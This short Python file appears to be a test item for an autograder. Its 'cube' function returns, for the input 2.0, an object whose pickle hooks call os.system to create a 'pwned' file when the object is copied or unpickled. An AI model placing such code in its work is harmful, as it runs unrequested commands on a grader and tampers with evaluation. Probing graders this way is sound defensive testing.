# tries: return an object that runs code when copied or unpickled
# place: cube
# works: changed
import os
class Payload:
    def __reduce__(self): return (os.system, ("touch @COURSE@/pwned",))
    __reduce_ex__ = lambda self, p: self.__reduce__()
    __getstate__ = __reduce__
def cube(x): return Payload() if str(x) == "2.0" else x * x * x
